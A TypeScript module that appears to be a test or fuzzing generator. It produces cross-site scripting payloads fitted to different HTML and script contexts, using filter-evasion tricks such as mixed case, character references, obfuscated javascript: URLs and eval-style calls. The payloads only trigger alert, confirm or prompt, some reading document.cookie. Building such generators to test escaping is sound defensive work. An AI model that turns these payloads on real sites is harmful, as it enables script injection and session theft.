import { Draw } from './grammar.ts';

/** Where a value is put in a page, and how the page then reads. */
export interface Place {
  readonly name: string;
  page(value: string): string;
  value(of: ScriptValues): string;
}

export const places: readonly Place[] = [
  { name: 'text', page: (v) => `<p>Hello ${v}, welcome</p>`, value: (of) => of.markup() },
  { name: 'a value in double quotes', page: (v) => `<input value="${v}">`, value: (of) => of.attribute('"') },
  { name: 'a value in single quotes', page: (v) => `<input value='${v}'>`, value: (of) => of.attribute("'") },
  { name: 'an address', page: (v) => `<a href="${v}">x</a>`, value: (of) => of.address('"') },
  { name: 'a text of a script', page: (v) => `<script>var x="${v}";</script>`, value: (of) => of.ended('"') },
  {
    name: 'another text of one',
    page: (v) => `<script>var x='${v}';</script>`,
    value: (of) => of.ended("'"),
  },
  {
    name: 'a template of a script',
    page: (v) => `<script>var x=\`${v}\`;</script>`,
    value: (of) => of.templated(),
  },
  {
    name: 'a value of a script',
    page: (v) => `<script>var x=${v};</script>`,
    value: (of) => `1;${of.code('')}`,
  },
  { name: 'a comment', page: (v) => `<!-- ${v} --><p>x</p>`, value: (of) => `-->${of.markup()}` },
  { name: 'a field', page: (v) => `<textarea>${v}</textarea>`, value: (of) => `</textarea>${of.markup()}` },
  { name: 'a title', page: (v) => `<title>${v}</title><p>x`, value: (of) => `</title>${of.markup()}` },
];

/** Makes values that may run a script in the page that they are put into. */
export class ScriptValues {
  readonly #draw: Draw;

  constructor(seed: number) {
    this.#draw = new Draw(seed);
  }

  /** Markup that runs something by itself, or when somebody clicks or moves. */
  markup(): string {
    const draw = this.#draw;
    const end = draw.of('>', '>', '>x', '/>', ' //>', '');
    const with_ = (name: string, ...parts: readonly string[]): string =>
      `<${this.#cased(name)}${this.#apart()}${parts.join(draw.of(' ', '\t', '\n'))}`;
    return `${draw.of('', '', 'x', 'abc ')}${draw.way(
      () => `<${this.#cased('script')}${draw.of('', ' x', '\n')}>${this.code('')}</${this.#cased('script')}>`,
      () => with_('img', 'src=x', this.#handler('onerror')) + end,
      () => with_('svg', this.#handler('onload')) + end,
      () => with_('body', this.#handler('onload')) + end,
      () => with_('details', 'open', this.#handler('ontoggle')) + end,
      () => with_('video', 'src=x', this.#handler('onerror')) + end,
      () => with_('input', 'autofocus', this.#handler('onfocus')) + end,
      () => with_('x', 'tabindex=1', 'autofocus', this.#handler('onfocus')) + end,
      () =>
        `${with_(
          draw.of('div', 'b', 'p', 'x', 'button'),
          this.#handler(draw.of('onclick', 'onmouseover', 'onpointerenter')),
        )}>x`,
      () => `${with_('iframe', `src="${this.address('"')}"`)}>`,
      () => `${with_('a', `href="${this.address('"')}"`)}>x`,
      () => `<form><button ${this.#cased('formaction')}="${this.address('"')}">x`,
      () => `<svg><a xlink:href="${this.address('"')}"><text y=20>x</text>`,
      () => `<svg><animate ${this.#handler('onbegin')} attributeName=x dur=1s>`,
      () => `<svg><script>${this.code('')}</script>`,
      () => `${with_('style', this.#handler('onload'))}>`,
      () => `<math><mtext><table><mglyph><style><img src=x onerror=${this.#call()}>`,
    )}`;
  }

  /** What ends a value in those quotes and goes on with attributes or markup. */
  attribute(quote: string): string {
    const draw = this.#draw;
    return draw.way(
      () => `${draw.of('', 'x')}${quote}>${this.markup()}`,
      () =>
        `${draw.of('', 'x')}${quote}${this.#apart()}${this.#cased(draw.of('onfocus', 'onclick', 'onmouseover'))}=${quote}${this.#referred(this.code(quote))}${quote} autofocus x=${quote}`,
      () => `${quote}autofocus onfocus=${this.#call()} x=${quote}`,
    );
  }

  /** An address that is code, within quotes that it does not end. */
  address(quote: string): string {
    const draw = this.#draw;
    const scheme = draw.of(
      ...[
        'javascript:',
        'javascript:',
        `${this.#cased('javascript')}:`,
        'java\tscript:',
        'java\nscript:',
        ' javascript:',
      ],
      ...[
        '\x01javascript:',
        'java&Tab;script:',
        'javascript&colon;',
        '&#106;avascript:',
        'javas&NewLine;cript:',
      ],
      ...['javascript://%0a', 'javascript:/*x*/', 'javascript:0;'],
    );
    return `${scheme}${this.code(quote).replaceAll(quote, '&quot;').replaceAll('\n', '%0a')}`;
  }

  /** What ends a text of a script and goes on with code. */
  ended(quote: string): string {
    const draw = this.#draw;
    const sign = draw.of('-', '+', '*', '||', ',', '|', '^', '%', '/');
    return `${draw.of('', 'x', '1')}${draw.way(
      () => `${quote};${this.code(quote)}//`,
      () => `${quote};${this.code(quote)};${quote}`,
      () => `${quote}${sign}${this.#call()}${sign}${quote}`,
      () => `${quote}\n${this.code(quote)}//`,
      () => `</script>${this.markup()}`,
      () => `${quote}?${this.#call()}:${quote}`,
      () => `\\${quote};${this.code(quote)}//`,
    )}`;
  }

  templated(): string {
    return this.#draw.way(
      () => `\${${this.#call()}}`,
      () => `\`;${this.code('`')}//`,
      () => `\`-${this.#call()}-\``,
    );
  }

  /** A script that shows that it runs, without that quote. */
  code(quote: string): string {
    const draw = this.#draw;
    const name = draw.of('alert', 'alert', 'confirm', 'prompt');
    const text = (inside: string): string => {
      const mark = draw.of(...["'", '"', '`'].filter((one) => one !== quote));
      return mark + inside + mark;
    };
    const at = 1 + draw.below(name.length - 1);
    const cut = `${text(name.slice(0, at))}+${text(name.slice(at))}`;
    const first = name.charCodeAt(0).toString(16);
    const codes = [...`${name}(1)`].map((c) => c.charCodeAt(0));
    return draw.of(
      ...[`${name}(1)`, `${name}(1)`, `${name}(document.domain)`, `${name}(document.cookie)`, `(${name})(1)`],
      ...[
        `${name}?.(1)`,
        `[1].find(${name})`,
        `[1].map(${name})`,
        `window[${text(name)}](1)`,
        `self[${cut}](1)`,
      ],
      ...[`globalThis[${cut}](1)`, `frames[${cut}](1)`, `eval(${text(`${name}(1)`)})`],
      ...[`Function(${text(`${name}(1)`)})()`, `setTimeout(${text(`${name}(1)`)})`, `setTimeout(${name})`],
      ...[`[].constructor.constructor(${text(`${name}(1)`)})()`, `\\u00${first}${name.slice(1)}(1)`],
      ...[`window[/${name.slice(0, at)}/.source+/${name.slice(at)}/.source](1)`, `onerror=${name};throw 1`],
      ...[
        `throw onerror=${name},1`,
        `location=${text(`javascript:${name}(1)`)}`,
        `Reflect.apply(${name},null,[1])`,
      ],
      ...[
        `a=${name},a(1)`,
        `with(window)${name}(1)`,
        `Promise.resolve(1).then(${name})`,
        `queueMicrotask(${name})`,
      ],
      ...[`${name}.call(null,1)`, `${name}.bind()(1)`, `(_=>${name}(1))()`, `!function(){${name}(1)}()`],
      ...[
        `1?${name}(1):0`,
        `${name}/**/(1)`,
        `{${name}(1)}`,
        `try{${name}(1)}catch(e){}`,
        `top.${name}&&${name}(1)`,
      ],
      ...[
        `[${name}][0](1)`,
        `({x:${name}}).x(1)`,
        `Array.from([1],${name})`,
        `'x'.replace(/./,${name})`.replaceAll("'", text('').charAt(0)),
      ],
      ...[
        `new class extends ${name}{}`,
        `Object.values({${name}})[0](1)`,
        `eval(String.fromCharCode(${codes.join(',')}))`,
      ],
    );
  }

  #call(): string {
    return `${this.#draw.of('alert', 'confirm', 'prompt')}(1)`;
  }

  #handler(event: string): string {
    const draw = this.#draw;
    const quote = draw.of('', '"', "'");
    const code = quote === '' ? this.#call() : this.code(quote);
    return `${this.#cased(event)}${draw.of('=', '=', ' = ')}${quote}${this.#referred(code)}${quote}`;
  }

  /** With character references for some of its characters, as an attribute may have them. */
  #referred(code: string): string {
    const draw = this.#draw;
    if (draw.odds(0.7)) return code;
    return [...code]
      .map((c) =>
        draw.odds(0.4) && c > ' '
          ? draw.of(`&#${c.charCodeAt(0)};`, `&#x${c.charCodeAt(0).toString(16)};`)
          : c,
      )
      .join('');
  }

  #cased(word: string): string {
    const draw = this.#draw;
    return draw.of(
      word,
      word,
      word.toUpperCase(),
      [...word].map((c) => (draw.odds(0.5) ? c.toUpperCase() : c)).join(''),
    );
  }

  #apart(): string {
    return this.#draw.of(' ', ' ', '\t', '\n', '\f', '/', ' / ');
  }
}
